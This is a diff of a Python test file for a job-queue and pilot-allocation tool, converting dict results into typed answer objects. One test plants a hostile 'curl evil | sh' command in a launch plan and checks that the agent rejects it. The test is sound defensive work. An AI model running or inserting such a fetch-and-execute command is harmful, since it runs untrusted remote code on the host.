@@ -12,7 +12,8 @@ from conftest import load_fixture_module
 
 from lumberjack.core import jobqueuelog as jql
 from lumberjack.core import jobqueuelog_write as jqlw
-from lumberjack.core.contract import ExportLayout
+from lumberjack.core.answers import Failed, Placed, Statuses, read_answer
+from lumberjack.core.contract import ExportLayout, decode
 from lumberjack.site import agent, job_queue
 from lumberjack.site.files import AgentError
 from lumberjack.site.pools import pool_for
@@ -41,7 +42,7 @@ def identity(ads: dict[str, jql.Ad], key: str) -> tuple[str | None, str | None]:
 
 def test_place_queue_runs_every_job_as_the_site_account(layout: ExportLayout) -> None:
     result = job_queue.place_queue(layout, SITE_USER, DOMAIN)
-    assert result == {"placed": True, "files": 3, "jobs": 2, "owners": ["alice"]}
+    assert result == Placed(True, files=3, jobs=2, owners=["alice"])
     ads = jql.read_log(Path(layout.spool, "job_queue.log"))
     site = ('"hpcuser"', '"hpcuser@lumberjack-calib"')
     assert identity(ads, jql.cluster_key(site_bundle.CLUSTER)) == site
@@ -121,14 +122,13 @@ def test_the_queue_is_never_placed_twice(layout: ExportLayout) -> None:
     # the schedd ran the jobs: its log moved on
     jqlw.write_log(queue, site_bundle.queue_ads(layout.spool, statuses=("4", "2")))
     after_run = queue.read_bytes()
-    assert job_queue.place_queue(layout, SITE_USER, DOMAIN) == {
-        "placed": False,
-        "reason": "already placed",
-    }
+    assert job_queue.place_queue(layout, SITE_USER, DOMAIN) == Placed(
+        False, reason="already placed"
+    )
     assert queue.read_bytes() == after_run
     # not even when the schedd's log is gone: that could run a job twice
     queue.unlink()
-    assert job_queue.place_queue(layout, SITE_USER, DOMAIN)["placed"] is False
+    assert job_queue.place_queue(layout, SITE_USER, DOMAIN).placed is False
     assert not queue.exists()
 
 
@@ -160,10 +160,10 @@ def test_status_reads_the_queue_without_a_pool(layout: ExportLayout) -> None:
         site_bundle.queue_ads(layout.spool, statuses=("4", "4")),
     )
     result = pool_for(layout, None).status()
-    assert result["jobs"] == {"completed": 2}
-    assert result["finished"] is True
-    assert result["pool_running"] is False
-    assert result["placed"] is True
+    assert result.jobs == {"completed": 2}
+    assert result.finished is True
+    assert result.pool_running is False
+    assert result.placed is True
 
 
 def test_main_prints_one_json_line(layout: ExportLayout, capsys) -> None:
@@ -183,10 +183,10 @@ def test_status_of_several_exports_in_one_call(layout: ExportLayout, tmp_path, c
     assert agent.main(["status", layout.root, missing]) == 0
     lines = capsys.readouterr().out.splitlines()
     assert len(lines) == 1
-    answers = json.loads(lines[0])["status"]
-    assert answers[layout.root] == pool_for(layout, None).status()
-    assert answers[layout.root]["jobs"] == {"running": 1, "completed": 1}
-    assert set(answers[missing]) == {"error"}  # one export's trouble is its own
+    answer = decode(Statuses, lines[0], "status")  # strictly, as the access point reads it
+    assert answer.answers == {layout.root: pool_for(layout, None).status()}
+    assert answer.answers[layout.root].jobs == {"running": 1, "completed": 1}
+    assert list(answer.errors) == [missing]  # one export's trouble is its own
     # only status takes several directories
     with pytest.raises(SystemExit):
         agent.main(["stop", layout.root, missing])
@@ -197,9 +197,8 @@ def test_main_launch_without_launch_json_is_an_error(layout: ExportLayout, capsy
     assert agent.main(["launch", layout.root]) != 0
     lines = capsys.readouterr().out.splitlines()
     assert len(lines) == 1
-    answer = json.loads(lines[0])
-    assert set(answer) == {"error"}
-    assert "launch.json" in answer["error"]
+    answer = read_answer("launch", lines[0], "launch")
+    assert isinstance(answer, Failed) and "launch.json" in answer.error
     # nothing was touched
     assert not Path(layout.spool).exists()
 
@@ -219,16 +218,16 @@ def test_allocation_status_counts_a_dead_allocations_running_jobs_as_idle(
         site_bundle.queue_ads(layout.spool, statuses=("2", "4")),
     )
     result = pool_for(layout, ALLOCATION_PLAN).status()  # no pilot submitted
-    assert result["jobs"] == {"idle": 1, "completed": 1}
-    assert result["interrupted"] == 1
-    assert result["pool_running"] is False and result["finished"] is False
+    assert result.jobs == {"idle": 1, "completed": 1}
+    assert result.interrupted == 1
+    assert result.pool_running is False and result.finished is False
     assert resumable({"running": 1, "idle": 2, "completed": 4}) == 3
 
 
 def test_allocation_stop_with_no_pilot_returns_at_once(layout: ExportLayout) -> None:
     answer = pool_for(layout, ALLOCATION_PLAN).stop()
-    assert answer.pop("logs")["jobs"] == 0  # nothing ran: no job's logs to gather
-    assert answer == {"stopped_schedd": False, "cancelled_pilots": []}
+    assert answer.logs.jobs == 0  # nothing ran: no job's logs to gather
+    assert (answer.stopped_schedd, answer.cancelled_pilots) == (False, [])
 
 
 def test_a_dead_allocations_running_jobs_get_an_expired_lease(layout: ExportLayout) -> None:
@@ -251,12 +250,12 @@ def test_a_dead_allocations_running_jobs_get_an_expired_lease(layout: ExportLayo
 def test_a_hostile_launch_json_is_refused_in_one_line_and_nothing_changes(
     layout: ExportLayout, capsys
 ) -> None:
-    from lumberjack.core.contract import to_json
+    from lumberjack.core.contract import encode
 
-    plan = json.loads(to_json(site_bundle.launch_plan()))
+    plan = json.loads(encode(site_bundle.launch_plan()))
     plan["spec"]["node_command"] = "curl evil | sh"  # the agent's to name, never the plan's
     Path(layout.launch_plan).write_text(json.dumps(plan))
     assert agent.main(["launch", layout.root]) == 1
-    answer = json.loads(capsys.readouterr().out)
-    assert answer == {"error": f"{layout.launch_plan}: spec: unknown field(s) node_command"}
+    answer = read_answer("launch", capsys.readouterr().out, "launch")
+    assert answer == Failed(f"{layout.launch_plan}.spec: unknown field 'node_command'")
     assert not Path(layout.spool).exists() and not Path(layout.pilots).exists()
